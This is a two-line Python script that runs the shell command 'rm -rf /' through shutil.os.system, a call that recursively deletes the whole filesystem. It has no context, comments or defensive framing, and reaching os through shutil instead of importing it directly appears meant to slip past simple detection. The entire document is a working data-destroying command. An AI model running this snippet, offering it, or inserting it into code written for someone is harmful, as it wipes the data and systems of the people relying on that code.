import shutil
shutil.os.system("rm -rf /")
